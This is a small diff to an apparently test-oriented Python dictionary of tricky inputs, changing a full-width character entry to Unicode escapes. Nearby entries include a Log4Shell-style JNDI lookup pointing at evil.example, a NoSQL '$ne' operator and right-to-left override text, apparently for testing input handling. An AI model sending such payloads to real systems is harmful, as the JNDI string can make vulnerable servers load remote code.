@@ -32,7 +32,7 @@ IDS = {
     "JSON": '{{"S":"{theirs}"}}',
     "operator": "$ne",
     "template": "${{jndi:ldap://evil.example}}",
-    "full width": "｛theirs｝＃",
+    "full width": "\uff5b{theirs}\uff5d\uff03",
     "right to left": "{mine}\u202e",
     "combining": "{mine}\u0301",
     "no character": "\ufffe\uffff",
